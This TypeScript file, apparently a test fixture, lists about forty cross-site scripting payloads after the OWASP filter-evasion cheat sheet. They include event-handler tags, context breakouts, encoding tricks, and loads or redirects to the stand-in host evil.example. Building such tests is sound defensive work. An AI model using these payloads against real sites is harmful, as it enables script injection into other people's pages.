/**
 * Texts that pages have been broken with, each short enough to be a label. What would run says so by setting `hit` or by asking
 * another host. After the kinds in https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html.
 */
export const injections = [
  // Elements, closed or not, in capitals or not.
  "<script>hit=1</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=hit=1>",
  "<svg/onload=hit=1>",
  "<svg><animate onbegin=hit=1 attributeName=x dur=1s>",
  "<details open ontoggle=hit=1>",
  "<iframe srcdoc='<script>parent.hit=1</script>'>",
  "<math><mi xlink:href=javascript:hit=1>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<base href=//evil.example/>",
  "<form action=//evil.example><input autofocus onfocus=hit=1>",
  "<a href=javascript:hit=1>link</a>",
  "<style>@import'//evil.example/x.css'</style>",
  // Ends of what the text may stand in.
  "</script><script>hit=1</script>",
  "</title><script>hit=1</script>",
  "</style><img src=x onerror=hit=1>",
  "--><script>hit=1</script><!--",
  "]]><script>hit=1</script>",
  "<!--<script>",
  "<plaintext>",
  "<textarea>",
  "<noscript><p title='</noscript><img src=x onerror=hit=1>'>",
  `" onmouseover="hit=1" autofocus onfocus="hit=1`,
  "' onmouseover='hit=1' autofocus onfocus='hit=1",
  `"><img src=x onerror=hit=1>`,
  "` onmouseover=hit=1 `",
  "\\u003cscript>hit=1\\u003c/script>",
  `"}],"@type":"Person","x":"`,
  // What is read twice, or as another writing.
  "&lt;script&gt;hit=1&lt;/script&gt;",
  "&#60;script&#62;hit=1&#60;/script&#62;",
  "%3Cscript%3Ehit=1%3C/script%3E",
  "+ADw-script+AD4-hit=1+ADw-/script+AD4-",
  "＜script＞hit=1＜/script＞",
  "${hit=1}{{hit=1}}<%= hit=1 %>#{hit=1}",
  "javascript:hit=1//",
  "data:text/html,<script>hit=1</script>",
  // Text that turns its surroundings around, or parts lines.
  "\u202e<script>hit=1</script>\u202c\u2066 متن",
  "سطر\u2028<img src=x onerror=hit=1>\u2029سطر",
  "a\tb\n<img\nsrc=x\nonerror=hit=1>\r\nج",
] as const;
